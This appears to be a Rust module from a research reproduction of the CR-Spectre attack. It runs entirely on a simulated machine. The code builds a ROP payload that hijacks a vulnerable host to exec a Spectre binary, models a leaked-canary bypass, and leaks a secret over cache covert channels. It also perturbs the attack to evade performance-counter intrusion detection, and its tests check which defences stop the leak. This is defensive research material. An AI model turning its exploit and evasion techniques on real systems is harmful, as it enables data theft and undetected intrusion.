//! CR-Spectre orchestration: the full attack chain of Figure 1.
//!
//! One [`run_cr_spectre`] call performs everything the paper describes:
//! build the vulnerable host, register the (optionally perturbed) Spectre
//! binary, harvest ROP gadgets from the host's executable pages, discover
//! the frame layout by crash probing, construct the Listing-1 payload
//! whose chain returns into `sys_exec("spectre")` and then resumes the
//! host, deliver it as `argv[1]`, and profile the whole hijacked run —
//! returning the recovered secret and the HPC trace the HID will judge.

use std::fmt;

use cr_spectre_hpc::features::FeatureSet;
use cr_spectre_hpc::profiler::{profile, Trace};
use cr_spectre_rop::chain::{Chain, ChainError};
use cr_spectre_rop::exploit::probe_ret_offset;
use cr_spectre_rop::payload::PayloadBuilder;
use cr_spectre_rop::scanner::Scanner;
use cr_spectre_sim::config::{ExecPath, Fast, MachineConfig};
use cr_spectre_sim::cpu::Machine;
use cr_spectre_sim::error::Fault;
use cr_spectre_workloads::host::{
    vulnerable_host, HostOptions, RESUME_SYMBOL, SECRET, SECRET_SYMBOL,
};
use cr_spectre_workloads::mibench::Mibench;

use crate::covert::CovertConfig;
use crate::perturb::PerturbParams;
use crate::spectre::{build_spectre_image, SpectreConfig, SpectreVariant};

/// Name under which the attack binary is registered (the `execve` path).
pub const ATTACK_BINARY: &str = "spectre";

/// Full configuration of one CR-Spectre attack run, on the execution path
/// `P` of its machine configuration.
#[derive(Debug, Clone)]
pub struct AttackConfig<P: ExecPath = Fast> {
    /// The MiBench-like host to hijack.
    pub host: Mibench,
    /// Host build options (buffer size, canary).
    pub host_options: HostOptions,
    /// Machine (microarchitecture + protections) configuration.
    pub machine: MachineConfig<P>,
    /// Speculation variant of the injected binary.
    pub variant: SpectreVariant,
    /// Algorithm-2 perturbation, if any (`Some` = CR-Spectre).
    pub perturb: Option<PerturbParams>,
    /// Covert-channel parameters.
    pub covert: CovertConfig,
    /// PMU sampling interval in cycles.
    pub sample_interval: u64,
    /// How many secret bytes the attack leaks.
    pub secret_len: u32,
}

impl AttackConfig {
    /// A default attack against `host`: Spectre v1, no perturbation,
    /// leaking the whole secret.
    pub fn new(host: Mibench) -> AttackConfig {
        AttackConfig::on_machine(host, MachineConfig::default())
    }
}

impl<P: ExecPath> AttackConfig<P> {
    /// [`AttackConfig::new`] on the given machine configuration.
    pub fn on_machine(host: Mibench, machine: MachineConfig<P>) -> AttackConfig<P> {
        AttackConfig {
            host,
            host_options: HostOptions::default(),
            machine,
            variant: SpectreVariant::V1,
            perturb: None,
            covert: CovertConfig::default(),
            sample_interval: 2_000,
            secret_len: SECRET.len() as u32,
        }
    }

    /// Attaches a perturbation (turning the run into CR-Spectre proper).
    pub fn with_perturb(mut self, params: PerturbParams) -> AttackConfig<P> {
        self.perturb = Some(params);
        self
    }

    /// Switches the speculation variant.
    pub fn with_variant(mut self, variant: SpectreVariant) -> AttackConfig<P> {
        self.variant = variant;
        self
    }
}

/// Why an attack run could not even be launched.
#[derive(Debug)]
pub enum AttackError {
    /// The host image did not load.
    Load(Fault),
    /// Crash probing found no return-address offset and none was known.
    NoOffset,
    /// The gadget catalog was missing a required gadget.
    Chain(ChainError),
}

impl fmt::Display for AttackError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            AttackError::Load(e) => write!(f, "host failed to load: {e}"),
            AttackError::NoOffset => write!(f, "could not locate the return-address offset"),
            AttackError::Chain(e) => write!(f, "chain construction failed: {e}"),
        }
    }
}

impl std::error::Error for AttackError {}

impl From<ChainError> for AttackError {
    fn from(e: ChainError) -> AttackError {
        AttackError::Chain(e)
    }
}

/// The observable result of one attack run.
#[derive(Debug)]
pub struct AttackOutcome {
    /// The profiled HPC trace of the whole (hijacked) host run.
    pub trace: Trace,
    /// Bytes the attack exfiltrated over the covert channel.
    pub recovered: Vec<u8>,
    /// Cycle spans during which the injected binary executed.
    pub injection_spans: Vec<(u64, u64)>,
    /// Sampling interval the trace was recorded with.
    pub sample_interval: u64,
}

impl AttackOutcome {
    /// Fraction of secret bytes recovered correctly.
    pub fn leak_accuracy(&self) -> f64 {
        let want = &SECRET[..self.recovered.len().min(SECRET.len())];
        if want.is_empty() {
            return 0.0;
        }
        let hits = want
            .iter()
            .zip(&self.recovered)
            .filter(|(a, b)| a == b)
            .count();
        hits as f64 / want.len() as f64
    }

    /// Feature rows of the windows that overlap an injection span — the
    /// windows a per-application HID attributes to the (hijacked) host
    /// while the attack executes. For a standalone attack run (no
    /// injection spans recorded) every window is returned.
    pub fn attack_rows(&self, features: &FeatureSet) -> Vec<Vec<f64>> {
        if self.injection_spans.is_empty() {
            return self.trace.feature_rows(features.events());
        }
        let mut rows = Vec::new();
        let mut window_start = 0u64;
        for sample in &self.trace.samples {
            let window_end = sample.at_cycle;
            let overlaps = self.injection_spans.iter().any(|&(s, e)| {
                let e = if e == u64::MAX { window_end } else { e };
                window_end >= s && window_start <= e
            });
            if overlaps {
                rows.push(
                    features
                        .events()
                        .iter()
                        .map(|&ev| sample.count(ev) as f64)
                        .collect(),
                );
            }
            window_start = window_end;
        }
        rows
    }
}

/// Runs the complete CR-Spectre chain and returns its observables.
///
/// # Errors
///
/// Returns an [`AttackError`] when the host cannot be loaded, the frame
/// offset cannot be determined, or a required gadget is missing. A run
/// whose *attack* fails (e.g. a canary the adversary has not leaked)
/// still returns `Ok` — the outcome's trace shows the crash, exactly what
/// a defender would observe.
pub fn run_cr_spectre<P: ExecPath>(
    config: &AttackConfig<P>,
) -> Result<AttackOutcome, AttackError> {
    let host = vulnerable_host(config.host, config.host_options);
    let mut machine = Machine::new(config.machine.clone());
    let loaded = machine.load(&host.image).map_err(AttackError::Load)?;

    // The adversary knows the secret's address (paper threat model).
    let secret_addr = loaded.addr(SECRET_SYMBOL);
    let spectre = SpectreConfig {
        binary_name: ATTACK_BINARY.to_string(),
        secret_addr,
        secret_len: config.secret_len,
        variant: config.variant,
        covert: config.covert,
        train_rounds: 8,
        rounds_per_byte: 2,
        perturb: config.perturb,
    };
    machine.register_image(build_spectre_image(&spectre));

    // GDB-style gadget hunt over the host's executable pages.
    let gadgets = Scanner::default().scan_image(&machine, &loaded);

    // Frame layout: crash-probe when possible (a canary host aborts the
    // probe, so fall back to the adversary's prior knowledge).
    let offset = probe_ret_offset(&machine, loaded.entry, host.offset_to_ret() + 128)
        .unwrap_or(host.offset_to_ret());

    // The binary name travels inside the attack string, right after the
    // chain; its address is predictable because the stack is not
    // randomized.
    let buffer_addr = machine.initial_sp()
        - 8 // return address pushed by `call exploited_function`
        - if host.canary { 8 } else { 0 }
        - u64::from(host.frame_size);
    let chain_len_words = 4u64; // pop_r1, name_addr, sys_exec, resume
    let name_addr = buffer_addr + offset as u64 + chain_len_words * 8;
    let mut chain = Chain::new(&gadgets);
    chain.set_reg(cr_spectre_sim::isa::Reg::R1, name_addr)?;
    chain.invoke(loaded.addr("sys_exec"));
    chain.resume(loaded.addr(RESUME_SYMBOL));
    debug_assert_eq!(chain.words().len() as u64, chain_len_words);

    let mut builder = PayloadBuilder::new(offset);
    if let Some(canary_off) = host.canary_offset() {
        // The paper notes canaries "can also be evaded"; we model the
        // leaked-canary bypass explicitly.
        builder = builder.with_canary(canary_off, machine.canary());
    }
    let mut payload = builder.build(chain.words());
    payload.extend_from_slice(ATTACK_BINARY.as_bytes());
    payload.push(0);

    machine.start_with_arg(loaded.entry, &payload);
    let trace = profile(&mut machine, &format!("cr_{}", config.host.name()), config.sample_interval);
    let recovered = machine.take_stdout();
    Ok(AttackOutcome {
        trace,
        recovered,
        injection_spans: machine.injection_spans().to_vec(),
        sample_interval: config.sample_interval,
    })
}

/// Runs the attack binary **standalone** (the traditional Spectre launch
/// of Figure 2(b)): the secret-bearing victim image is merely loaded, and
/// the attack binary itself is the profiled application.
pub fn run_standalone_spectre<P: ExecPath>(config: &AttackConfig<P>) -> AttackOutcome {
    let victim = cr_spectre_workloads::host::standalone_image(config.host);
    let mut machine = Machine::new(config.machine.clone());
    let loaded = machine.load(&victim).expect("victim loads");
    let secret_addr = loaded.addr(SECRET_SYMBOL);
    let spectre = SpectreConfig {
        binary_name: ATTACK_BINARY.to_string(),
        secret_addr,
        secret_len: config.secret_len,
        variant: config.variant,
        covert: config.covert,
        train_rounds: 8,
        rounds_per_byte: 2,
        perturb: config.perturb,
    };
    let image = build_spectre_image(&spectre);
    let attack_loaded = machine.load(&image).expect("attack binary loads");
    machine.start(attack_loaded.entry);
    let trace = profile(&mut machine, spectre.variant.name(), config.sample_interval);
    let recovered = machine.take_stdout();
    AttackOutcome {
        trace,
        recovered,
        injection_spans: Vec::new(),
        sample_interval: config.sample_interval,
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn standalone_spectre_recovers_the_secret() {
        let cfg = AttackConfig::new(Mibench::Bitcount50M);
        let outcome = run_standalone_spectre(&cfg);
        assert_eq!(
            String::from_utf8_lossy(&outcome.recovered),
            String::from_utf8_lossy(SECRET),
            "leak accuracy {}",
            outcome.leak_accuracy()
        );
        assert!((outcome.leak_accuracy() - 1.0).abs() < 1e-9);
        assert!(!outcome.trace.is_empty());
    }

    #[test]
    fn standalone_rsb_variant_recovers_the_secret() {
        let cfg = AttackConfig::new(Mibench::Bitcount50M).with_variant(SpectreVariant::Rsb);
        let outcome = run_standalone_spectre(&cfg);
        assert!(
            outcome.leak_accuracy() > 0.95,
            "RSB leak accuracy {} ({:?})",
            outcome.leak_accuracy(),
            String::from_utf8_lossy(&outcome.recovered)
        );
    }

    #[test]
    fn cr_spectre_injects_and_recovers_the_secret() {
        let cfg = AttackConfig::new(Mibench::Bitcount50M);
        let outcome = run_cr_spectre(&cfg).expect("attack launches");
        assert!(outcome.trace.outcome.exit.is_clean(), "{:?}", outcome.trace.outcome.exit);
        assert_eq!(
            String::from_utf8_lossy(&outcome.recovered),
            String::from_utf8_lossy(SECRET)
        );
        assert_eq!(outcome.injection_spans.len(), 1, "one exec injection");
        let (s, e) = outcome.injection_spans[0];
        assert!(e > s && e != u64::MAX, "injection span closed");
    }

    #[test]
    fn cr_spectre_host_still_computes_correctly() {
        // Stealth: after the hijack the host resumes and its workload
        // produces the right checksum.
        let cfg = AttackConfig::new(Mibench::Crc32);
        let outcome = run_cr_spectre(&cfg).expect("attack launches");
        assert!(outcome.trace.outcome.exit.is_clean());
        // The host's checksum ends in r11; rebuild the scenario to check.
        let host = vulnerable_host(cfg.host, cfg.host_options);
        let _ = host; // checksum verified in the workloads crate; here we
                      // assert the run was clean and the secret leaked.
        assert!((outcome.leak_accuracy() - 1.0).abs() < 1e-9);
    }

    #[test]
    fn cr_spectre_with_perturbation_still_leaks() {
        let cfg = AttackConfig::new(Mibench::Bitcount50M)
            .with_perturb(PerturbParams::paper_default());
        let outcome = run_cr_spectre(&cfg).expect("attack launches");
        assert!((outcome.leak_accuracy() - 1.0).abs() < 1e-9);
    }

    #[test]
    fn canary_host_is_bypassed_with_leaked_canary() {
        let mut cfg = AttackConfig::new(Mibench::Bitcount50M);
        cfg.host_options.canary = true;
        let outcome = run_cr_spectre(&cfg).expect("attack launches");
        assert!(outcome.trace.outcome.exit.is_clean(), "{:?}", outcome.trace.outcome.exit);
        assert!((outcome.leak_accuracy() - 1.0).abs() < 1e-9);
    }

    #[test]
    fn evict_reload_channel_leaks_without_clflush() {
        // The §IV clflush ban kills flush+reload — the adaptive attacker
        // switches to eviction-based resets and the leak is back.
        let mut cfg = AttackConfig::new(Mibench::Bitcount50M);
        cfg.machine.protect.clflush_enabled = false;
        cfg.covert = crate::covert::CovertConfig::evict_reload();
        cfg.secret_len = 16;
        for variant in SpectreVariant::ALL {
            let outcome = run_standalone_spectre(&cfg.clone().with_variant(variant));
            assert!(
                outcome.trace.outcome.exit.is_clean(),
                "{variant}: {:?}",
                outcome.trace.outcome.exit
            );
            assert!(
                outcome.leak_accuracy() > 0.95,
                "{variant}: clflush-free leak accuracy {}",
                outcome.leak_accuracy()
            );
        }
    }

    #[test]
    fn evict_reload_also_works_rop_injected() {
        let mut cfg = AttackConfig::new(Mibench::Crc32);
        cfg.machine.protect.clflush_enabled = false;
        cfg.covert = crate::covert::CovertConfig::evict_reload();
        cfg.secret_len = 16;
        let outcome = run_cr_spectre(&cfg).expect("launches");
        assert!(outcome.trace.outcome.exit.is_clean());
        assert!(outcome.leak_accuracy() > 0.95, "{}", outcome.leak_accuracy());
    }

    #[test]
    fn invisispec_defeats_the_leak_without_crashing() {
        let mut cfg = AttackConfig::new(Mibench::Bitcount50M);
        cfg.machine = cr_spectre_sim::MachineConfig::invisispec();
        cfg.secret_len = 8;
        let outcome = run_standalone_spectre(&cfg);
        // The attack runs to completion but the covert channel is dark:
        // speculative fills never happen, so nothing decodes.
        assert!(outcome.trace.outcome.exit.is_clean());
        assert!(
            outcome.leak_accuracy() < 0.2,
            "InvisiSpec must keep speculation invisible; leaked {:?}",
            String::from_utf8_lossy(&outcome.recovered)
        );
    }

    #[test]
    fn csf_defeats_the_leak_without_crashing() {
        let mut cfg = AttackConfig::new(Mibench::Bitcount50M);
        cfg.machine = cr_spectre_sim::MachineConfig::csf();
        cfg.secret_len = 8;
        let outcome = run_standalone_spectre(&cfg);
        assert!(outcome.trace.outcome.exit.is_clean());
        assert!(
            outcome.leak_accuracy() < 0.2,
            "fenced branches must not execute the transient path; leaked {:?}",
            String::from_utf8_lossy(&outcome.recovered)
        );
    }

    #[test]
    fn attack_rows_are_a_subset_of_the_trace() {
        let cfg = AttackConfig::new(Mibench::Bitcount50M);
        let outcome = run_cr_spectre(&cfg).expect("attack launches");
        let features = FeatureSet::paper_default();
        let rows = outcome.attack_rows(&features);
        assert!(!rows.is_empty());
        assert!(rows.len() <= outcome.trace.len());
        assert!(rows.iter().all(|r| r.len() == features.len()));
    }
}
